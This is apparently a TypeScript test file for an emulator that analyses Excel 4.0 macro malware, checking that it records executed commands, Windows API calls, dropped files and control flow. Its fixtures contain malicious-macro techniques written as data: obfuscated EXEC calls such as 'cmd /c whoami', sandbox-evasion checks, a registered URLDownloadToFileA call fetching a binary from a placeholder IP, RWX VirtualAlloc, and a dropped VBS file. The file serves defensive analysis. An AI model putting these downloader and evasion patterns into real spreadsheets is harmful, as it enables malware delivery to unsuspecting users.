import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseA1 } from '../../formats/xlsb/index.js';
import { MAX_FILL_CELLS } from './calls.js';
import { Emulator, MAX_REF_DEPTH } from './emulator.js';
import { MAX_CALL_DEPTH } from './runner.js';
import { cellKey, emptyBook, type XlmBook, type XlmCell } from './model.js';

/** A one-macro-sheet book from `{ A1: '=formula' | constant }`. */
function book(cells: Record<string, string | number>, sheet = 'Macro1'): XlmBook {
  const b = emptyBook('xls', 'test');
  const map = new Map<number, XlmCell>();
  for (const [ref, content] of Object.entries(cells)) {
    const { row, col } = parseA1(ref)!;
    const cell: XlmCell =
      typeof content === 'string' && content.startsWith('=')
        ? { row, col, formula: content.slice(1) }
        : { row, col, value: content };
    map.set(cellKey(row, col), cell);
  }
  b.sheets.push({ name: sheet, isMacro: true, state: 'visible', source: 'test', cells: map });
  return b;
}

function run(b: XlmBook, entry = 'A1', maxSteps = 10_000, maxEvents = 1000): Emulator {
  const em = new Emulator(b, {
    maxSteps,
    maxStringChars: 1 << 20,
    maxEvents,
    checkDeadline() {},
  });
  const { row, col } = parseA1(entry)!;
  em.run({ k: 'ref', sheet: b.sheets[0]!.name, row, col, row2: row, col2: col }, true);
  return em;
}

const texts = (em: Emulator, kind: string) =>
  em.events.filter((e) => e.kind === kind).map((e) => e.text);

test('emulator: CHAR/MID/LEFT/RIGHT/SUBSTITUTE fold into the EXEC command', () => {
  const em = run(
    book({
      A1: '=EXEC(CHAR(99)&MID("xxalcxx",3,3)&LEFT(".exe.",4)&RIGHT("zz",0)&SUBSTITUTE("_/c_","_"," "))',
      A2: '=HALT()',
    }),
  );
  assert.deepEqual(texts(em, 'exec'), ['calc.exe /c ']);
});

test('emulator: FORMULA writes a formula into a blank cell below, which then runs', () => {
  const em = run(book({ A1: '=FORMULA("=EXEC(""cmd /c whoami"")",A3)', A2: '=ALERT("hi")' }));
  assert.deepEqual(em.written, [
    { sheet: 'Macro1', cell: 'A3', formula: '=EXEC("cmd /c whoami")' },
  ]);
  assert.deepEqual(texts(em, 'exec'), ['cmd /c whoami']);
  assert.equal(em.events.find((e) => e.kind === 'exec')?.isFromAutoexec, true);
});

test('emulator: FORMULA.FILL writes every cell of its range (bounded)', () => {
  const em = run(book({ A1: '=FORMULA.FILL("=1+1",B1:B3)', A2: '=HALT()' }));
  assert.deepEqual(
    em.written.map((w) => w.cell),
    ['B1', 'B2', 'B3'],
  );
});

test('emulator: GOTO jumps, RUN calls and RETURN comes back, in order', () => {
  const em = run(
    book({
      A1: '=GOTO(C1)',
      A2: '=EXEC("skipped")',
      C1: '=RUN(E1)',
      C2: '=EXEC("after return")',
      C3: '=HALT()',
      E1: '=EXEC("in sub")',
      E2: '=RETURN()',
    }),
  );
  assert.deepEqual(texts(em, 'exec'), ['in sub', 'after return']);
});

test('emulator: block IF / ELSE / END.IF take one branch', () => {
  const em = run(
    book({
      A1: '=IF(GET.WORKSPACE(13)<770)',
      A2: '=EXEC("sandbox branch")',
      A3: '=ELSE()',
      A4: '=EXEC("desktop branch")',
      A5: '=END.IF()',
      A6: '=EXEC("after")',
    }),
  );
  assert.deepEqual(texts(em, 'exec'), ['desktop branch', 'after']);
  assert.deepEqual(texts(em, 'sandbox'), ['GET.WORKSPACE(13) → 1920 (usable workspace width)']);
});

test('emulator: a sandbox check that would CLOSE on a small screen lets a desktop run on', () => {
  const em = run(book({ A1: '=IF(GET.WORKSPACE(14)<390,CLOSE(FALSE),)', A2: '=EXEC("payload")' }));
  assert.deepEqual(texts(em, 'exec'), ['payload']);
});

test('emulator: FOR/NEXT with SET.VALUE decodes a string in a loop', () => {
  const em = run(
    book({
      A1: '=FOR("i",1,3)',
      A2: '=SET.VALUE(B1,B1&CHAR(64+i))',
      A3: '=NEXT()',
      A4: '=EXEC(B1)',
      B1: '',
    }),
  );
  assert.deepEqual(texts(em, 'exec'), ['ABC']);
});

test('emulator: WHILE/NEXT with a name assigned by `name=value`', () => {
  const em = run(
    book({ A1: '=n=0', A2: '=WHILE(n<4)', A3: '=n=n+1', A4: '=NEXT()', A5: '=EXEC("n="&n)' }),
  );
  assert.deepEqual(texts(em, 'exec'), ['n=4']);
});

test('emulator: REGISTER makes an alias whose calls are recorded as API calls', () => {
  const em = run(
    book({
      A1: '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","dl",,1,9)',
      A2: '=dl(0,"http://192.0.2.7/a.bin","C:\\a.exe",0,0)',
      A3: '=REGISTER.ID("Kernel32","VirtualAlloc","JJJJJ")',
      A4: '=CALL(A3,0,4096,12288,64)',
      A5: '=HALT()',
    }),
  );
  assert.deepEqual(
    em.events.filter((e) => e.kind === 'call').map((e) => [e.dll, e.fn, e.args[1] ?? e.args[0]]),
    [
      ['urlmon', 'URLDownloadToFileA', 'http://192.0.2.7/a.bin'],
      ['Kernel32', 'VirtualAlloc', '4096'],
    ],
  );
});

test('emulator: FOPEN/FWRITELN/FCLOSE keep the dropped file', () => {
  const em = run(
    book({
      A1: '=FOPEN("C:\\ProgramData\\x.vbs",3)',
      A2: '=FWRITELN(A1,"WScript.Echo 1")',
      A3: '=FCLOSE(A1)',
    }),
  );
  assert.deepEqual(
    [...em.files.values()],
    [{ path: 'C:\\ProgramData\\x.vbs', data: 'WScript.Echo 1\r\n' }],
  );
});

test('emulator: EVALUATE, SET.NAME and defined names resolve', () => {
  const b = book({
    A1: '=SET.NAME("u","http://")',
    A2: '=EXEC(u&EVALUATE("""192.0.2.""&(1+1)")&Host)',
  });
  b.names.push({ name: 'Host', formula: '"/p"', isHidden: false, isBuiltin: false });
  assert.deepEqual(texts(run(b), 'exec'), ['http://192.0.2.2/p']);
});

test('emulator: the static sweep finds effects no run reached', () => {
  const em = run(book({ A1: '=HALT()', C5: '=EXEC("cmd /c "&"dir")' }));
  assert.deepEqual(texts(em, 'exec'), []);
  em.sweep();
  const exec = em.events.find((e) => e.kind === 'exec');
  assert.equal(exec?.text, 'cmd /c dir');
  assert.equal(exec?.isFromAutoexec, false);
});

test('emulator: an endless GOTO loop spends exactly its step budget', () => {
  const loop = book({ A1: '=GOTO(A1)' });
  assert.equal(run(loop, 'A1', 500).isBudgetSpent, true);
  assert.equal(run(loop, 'A1', 500).steps, 501);
  // A macro of three steps (A1, A2, end of column) fits a budget of 3, not of 2.
  const short = book({ A1: '=1', A2: '=2' });
  assert.equal(run(short, 'A1', 3).isBudgetSpent, false);
  assert.equal(run(short, 'A1', 2).isBudgetSpent, true);
});

test('emulator: cells referring to themselves or each other read their cache, no hang', () => {
  const em = run(book({ A1: '=EXEC(B1&C1)', B1: '=C1&"b"', C1: '=B1&"c"' }));
  assert.equal(em.events.length, 1);
});

test('emulator: ON.TIME schedules a macro that runs after the current one', () => {
  const em = run(
    book({ A1: '=ON.TIME(NOW()+1,"Macro1!R1C3")', A2: '=HALT()', C1: '=EXEC("later")' }),
  );
  assert.equal(em.deferred.length, 1);
  em.run(em.deferred[0]!, true);
  assert.deepEqual(texts(em, 'exec'), ['later']);
});

test('emulator: FORMULA.FILL writes at most MAX_FILL_CELLS cells', () => {
  const fill = (rows: number) =>
    run(book({ A1: `=FORMULA.FILL("=1",B1:B${rows})`, A2: '=HALT()' }));
  assert.equal(fill(MAX_FILL_CELLS).written.length, MAX_FILL_CELLS);
  assert.equal(fill(MAX_FILL_CELLS + 1).written.length, MAX_FILL_CELLS);
});

test('emulator: maxEvents keeps exactly that many events', () => {
  const b = book({ A1: '=EXEC("a")', A2: '=EXEC("b")', A3: '=EXEC("c")' });
  assert.equal(run(b, 'A1', 100, 3).events.length, 3);
  assert.equal(run(b, 'A1', 100, 2).events.length, 2);
});

test('emulator: RUN nested deeper than MAX_CALL_DEPTH ends the macro, no stack growth', () => {
  const em = run(book({ A1: '=RUN(A1)' }));
  assert.equal(em.isBudgetSpent, false);
  assert.equal(em.steps, MAX_CALL_DEPTH + 1);
});

test('emulator: a chain of references is followed MAX_REF_DEPTH cells deep, then the cache is read', () => {
  const chain = (n: number) => {
    const cells: Record<string, string> = { A1: '=EXEC("<"&B1&">")' };
    for (let i = 1; i < n; i++) cells[`B${i}`] = `=B${i + 1}&""`;
    cells[`B${n}`] = 'end';
    return run(book(cells)).events.map((e) => e.text);
  };
  assert.deepEqual(chain(MAX_REF_DEPTH), ['<end>']);
  assert.deepEqual(chain(MAX_REF_DEPTH + 1), ['<>']);
});

test('emulator: retained strings stop at maxRetainedChars and say so', () => {
  const em = (cells: Record<string, string>) => {
    const e = new Emulator(book(cells), {
      maxSteps: 100,
      maxStringChars: 1000,
      maxEvents: 10,
      maxRetainedChars: 100,
      checkDeadline() {},
    });
    e.run({ k: 'ref', sheet: 'Macro1', row: 0, col: 0, row2: 0, col2: 0 }, true);
    return e;
  };
  // One 50-character value is kept twice (the cell, the IOC strings): exactly the budget.
  assert.equal(em({ A1: '=REPT("a",50)' }).isMemorySpent, false);
  assert.equal(em({ A1: '=REPT("a",50)', A2: '=REPT("b",50)' }).isMemorySpent, true);
});
